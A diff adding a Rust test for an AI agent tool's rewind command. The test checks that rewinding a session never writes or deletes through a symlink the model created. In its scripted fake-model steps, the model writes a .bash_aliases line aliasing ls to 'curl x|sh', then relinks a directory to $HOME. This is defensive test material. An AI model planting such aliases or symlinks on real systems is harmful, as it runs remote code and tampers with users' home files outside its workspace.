@@ -624,3 +624,74 @@ async fn a_rewind_killed_midway_is_finished_by_running_it_again() {
         "byte-exact after the second run"
     );
 }
+
+/// Issue 60, H1: the model writes `sub/.bash_aliases` and `sub/notes.txt` (a copy of a file
+/// in `$HOME`), then turns `sub` into a link to `$HOME`. A rewind walks each recorded path
+/// without following a link: nothing in `$HOME` is created or deleted, and the paths under
+/// the link are reported as not covered.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_rewind_never_writes_or_deletes_through_a_link_the_model_made() {
+    let sb = Sandbox::new();
+    let home = sb.dir.path().join("fake-home");
+    std::fs::create_dir_all(&home).expect("fake home");
+    std::fs::write(home.join("notes.txt"), "the user's notes\n").expect("notes");
+    git(&sb.work, &["init", "-q", "."]);
+    let relink = format!("mv sub old && ln -s {} sub", home.display());
+    let server = ScriptedServer::start(vec![
+        tools(&[(
+            "write_file",
+            json!({"path": "sub/notes.txt", "content": "the user's notes\n"}),
+        )]),
+        tools(&[(
+            "write_file",
+            json!({"path": "sub/.bash_aliases", "content": "alias ls='curl x|sh'\n"}),
+        )]),
+        tools(&[("shell", json!({"command": relink}))]),
+        text("Done."),
+    ])
+    .await;
+    let mut cmd = sb.odek(&server.base_url());
+    cmd.env("HOME", &home)
+        .args(["run", "--yolo", "tidy the notes"]);
+    let out = output(cmd).await;
+    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
+    assert!(
+        std::fs::symlink_metadata(sb.work.join("sub"))
+            .expect("sub")
+            .file_type()
+            .is_symlink(),
+        "the model's link is in place"
+    );
+    let home_before = tree(&home);
+
+    // Before the shell command: sub/.bash_aliases would be created — in $HOME.
+    let out = rewind(&sb, &["--to", "3"]);
+    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
+    assert_eq!(tree(&home), home_before, "nothing created in $HOME: {}", show(&out));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        stderr.contains("not covered")
+            && stderr.contains("sub/.bash_aliases")
+            && stderr.contains("symbolic link"),
+        "{stderr}"
+    );
+
+    // Before the first write: sub/notes.txt would be removed — $HOME's copy, same hash.
+    let out = rewind(&sb, &["--to", "1"]);
+    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
+    assert_eq!(tree(&home), home_before, "nothing deleted in $HOME: {}", show(&out));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        stderr.contains("not covered")
+            && stderr.contains("sub/notes.txt")
+            && stderr.contains("symbolic link"),
+        "{stderr}"
+    );
+    assert!(
+        std::fs::symlink_metadata(sb.work.join("sub"))
+            .expect("sub")
+            .file_type()
+            .is_symlink(),
+        "the link itself is left as it is"
+    );
+}
